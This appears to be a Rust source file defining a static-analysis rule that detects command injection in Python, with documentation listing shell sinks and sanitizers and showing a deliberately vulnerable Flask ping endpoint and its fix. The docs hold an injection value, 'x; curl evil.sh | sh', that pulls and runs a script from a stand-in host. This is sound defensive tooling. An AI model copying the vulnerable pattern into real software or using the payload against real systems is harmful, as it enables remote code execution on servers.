//! `command-injection`: untrusted input reaches an operating-system command (found by the taint engine).

use crate::rule::Rule;
use moat_diagnostics::{Category, Confidence, Owasp, RuleMeta, Severity};

const DOCS: &str = concat!(
    r#"## What it does
Follows untrusted input to commands the operating system runs: `os.system`, `os.popen`,
the `subprocess` functions with `shell=True` (the command string), the program itself (first
element of the argument list) when there is no shell, `os.exec*` and `os.spawn*`, and
`asyncio.create_subprocess_shell` and `create_subprocess_exec` (its program: the first
argument, or the first element of `*argv`).

"#,
    super::untrusted_input_doc!(),
    r#"

`shlex.quote()` makes a value safe inside a shell command, an allow-list check
(`if tool in ALLOWED_TOOLS:`) or numeric conversion makes it safe anywhere, and a value
passed as a later element of an argument list without a shell is data, not a command, and is
not reported. The finding carries its trace: the source, each step the value took
(assignments, calls and returns, across files) and the sink; the text output shows it under
the code frame and SARIF as `codeFlows`.

## Why is this bad?
A shell reads `;`, `|`, `&&`, `$(...)` and backquotes in the text it is given. A file name
such as `x; curl evil.sh | sh` runs the attacker's commands with the server's rights: reading
secrets, installing malware, moving through the network.

## Example
```python
import subprocess
from flask import Flask, request

app = Flask(__name__)

@app.route("/ping")
def ping():
    host = request.args.get("host", "")
    out = subprocess.run(f"ping -c 1 {host}", shell=True, capture_output=True)
    return out.stdout
```

## Use instead
Pass an argument list without a shell, and stop options with `--`:
```python
@app.route("/ping")
def ping():
    host = request.args.get("host", "")
    out = subprocess.run(["ping", "-c", "1", "--", host], capture_output=True)
    return out.stdout
```
When a shell is unavoidable, quote each value with `shlex.quote()`.

## References
- CWE-78: Improper Neutralization of Special Elements used in an OS Command ('OS Command Injection')
- CWE-77: Improper Neutralization of Special Elements used in a Command ('Command Injection')
- OWASP Top 10 2025: A05 Injection
- Python documentation: `subprocess` — Security Considerations
"#
);

/// Metadata of `command-injection`.
pub static META: RuleMeta = RuleMeta {
    id: "command-injection",
    title: "Command injection: untrusted input in an OS command",
    category: Category::Injection,
    cwe: &[78, 77],
    owasp: Owasp::A05Injection,
    severity: Severity::Critical,
    confidence: Confidence::High,
    default_enabled: true,
    checks_test_code: false,
    bandit: &[],
    ruff: &[],
    docs: DOCS,
};

/// The rule. It has no syntax checks: the taint engine reports its findings.
pub const RULE: Rule = super::taint_rule_of(&META);
